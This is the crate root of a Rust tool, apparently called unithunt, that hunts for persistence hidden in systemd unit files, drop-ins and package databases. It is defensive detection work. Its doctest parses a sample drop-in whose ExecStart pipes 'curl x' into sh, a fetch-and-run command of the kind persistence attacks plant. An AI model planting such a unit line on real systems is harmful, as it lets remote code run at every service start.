//! Hunting persistence in systemd's own files.
//!
//! `unit`: unit files read the way systemd reads them (systemd.syntax(7)): sections, comments,
//! continuation lines, assignments and resets, the effective unit after drop-ins, `Exec*=` command
//! lines with their prefixes, quoting and escapes, and specifiers. `root`: paths of an image or
//! of `/` resolved as the kernel would inside that root and never outside it (absolute links
//! re-rooted, `..` stopped at the root, loops cut), and the unit, generator and environment
//! generator search paths of the system and user managers. `dpkg` and `rpm` read the package
//! databases offline (`packages` asks both); `score` judges units with reasons; `hunt` puts it
//! together for every manager of a root.
//!
//! ```
//! use unithunt_hunt::unit::{parse, parse_exec, Unit};
//! // A continuation, a comment inside it, and a command line with quotes and a `-` prefix; a
//! // drop-in that clears the list and sets its own.
//! let fragment = parse("[Service]\nExecStart=/bin/true\n");
//! let dropin = parse("[Service]\nExecStart=\nExecStart=-/bin/sh -c \\\n# still a comment\n 'curl x | sh'\n");
//! let unit = Unit::new(&fragment, &[&dropin]);
//! let exec = &unit.list("Service", "ExecStart")[0].value;
//! let cmd = &parse_exec(exec).unwrap()[0];
//! assert_eq!(cmd.path, "/bin/sh");
//! assert_eq!(cmd.argv, ["/bin/sh", "-c", "curl x | sh"]);
//! ```

pub mod bdb;
pub mod dpkg;
pub mod enumerate;
pub mod hunt;
pub mod packages;
pub mod root;
pub mod rpm;
pub mod score;
pub mod unit;

#[cfg(test)]
mod testtree;
